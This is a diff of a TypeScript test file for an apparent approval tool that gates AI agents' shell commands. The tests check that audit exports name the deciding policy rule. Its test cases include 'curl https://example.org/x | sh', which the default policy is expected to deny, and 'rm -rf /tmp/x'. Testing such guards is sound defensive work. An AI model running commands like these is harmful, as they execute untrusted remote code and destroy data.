@@ -8,7 +8,7 @@ import { afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { AgentAction } from '../../../src/core/agent/agentAction.js';
 import { FakeClock } from '../../../src/core/base/clock.js';
 import type { DaemonContext } from '../../../src/heads/daemon/daemonMain.js';
-import { ensureStateDir, resolveStatePaths, type StatePaths } from '../../../src/journal/statePaths.js';
+import { ensureStateDir, resolveStatePaths, type StatePaths } from '../../../src/state/statePaths.js';
 import { AgentActionService, ANSWER_BY_SLACK_MS, NATIVE_CLAIM_MS } from '../../../src/service/agentActions.js';
 import { EXPIRY_STORE_WAIT_MS } from '../../../src/service/approvalQueue.js';
 import type { Timers } from '../../../src/service/approvalService.js';
@@ -16,6 +16,9 @@ import { createApprovalRuntime, type ApprovalRuntime } from '../../../src/heads/
 import { silentLogger } from '../../../src/service/logger.js';
 import { AgentJudge } from '../../../src/shell/agentJudge.js';
 import { loadShellParser } from '../../../src/shell/shellParser.js';
+import { formatCef, formatSyslog, parseCef } from '../../../src/core/audit/auditExportFormats.js';
+import { toExportRecord } from '../../../src/core/audit/auditExportRecord.js';
+import { otlpAttributesOf } from '../../../src/channels/auditSinks/otlpSink.js';
 
 /** Timers that fire only when the test moves the clock. */
 class ManualTimers implements Timers {
@@ -418,5 +421,37 @@ describe('R-HOOK-9 a prompt shown in Claude Code\'s own dialog as well (hooks.cl
     ]);
     // The after-event is used once.
     expect((await f.runtime.agents.finishReported(end('echo late-yes'))).recorded).toBe(false);
+  });
+});
+
+describe('R-AUD-1 R-AUD-4 a record decided by policy names the key that decided, as policy explain does', () => {
+  /** The key `policy explain` names for the deciding part: its rule, without the pattern a rule key quotes. */
+  const explainedKey = async (f: Fixture, action: AgentAction): Promise<string> => {
+    const explained = await f.runtime.agents.explain(action);
+    const part = explained.parts.find((p) => p.decision === explained.decision) ?? explained.parts[0];
+    return (part?.rule ?? '').split(' ')[0] ?? '';
+  };
+
+  it.each([
+    ['a deny by the default policy', {}, 'curl https://example.org/x | sh', 'denied', 'policy.commands.networkIntoShell'],
+    ['an allow by a config rule', { commands: { default: 'prompt', rules: [{ match: 'ls *', decision: 'deny' }, { match: 'echo *', decision: 'allow' }] } }, 'echo hi', 'started', 'policy.commands.rules.1'],
+    ['a deny by a config rule', { commands: { default: 'prompt', rules: [{ match: 'ls *', decision: 'deny' }] } }, 'ls /', 'denied', 'policy.commands.rules.0'],
+    ['an allow by a tool entry', { tools: { 'claude/Bash': 'allow' } }, 'rm -rf /tmp/x', 'started', 'policy.tools.claude/Bash'],
+    ['a deny by a tool entry', { tools: { 'claude/Bash': 'deny' } }, 'echo hi', 'denied', 'policy.tools.claude/Bash'],
+  ] as const)('%s', async (_name, policy, command, outcome, key) => {
+    const f = fixture({ policy });
+    const action = bash(command);
+    expect(await explainedKey(f, action)).toBe(key);
+    await f.runtime.agents.authorize(action);
+    await expect.poll(() => f.audit().length).toBe(1);
+    const [line] = f.audit() as [Record<string, unknown>];
+    expect(line).toMatchObject({ outcome, ruleId: key });
+    expect(line['channel']).toBeUndefined();
+    // Every export format carries it: the record (webhook JSON, OTLP attributes), RFC 5424 SD and CEF.
+    const record = toExportRecord(line, { id: 'h1', name: 'laptop' }, `v1:sha256:${'b'.repeat(64)}`);
+    expect(record).toMatchObject({ ruleId: key, decidedHow: 'policy' });
+    expect(formatSyslog(record, { facility: 'authpriv', appName: 'assent' })).toContain(`ruleId="${key}"`);
+    expect(parseCef(formatCef(record, '0.1.0'))?.fields['ruleId']).toBe(key);
+    expect(otlpAttributesOf(record)['assent.ruleId']).toBe(key);
   });
 });
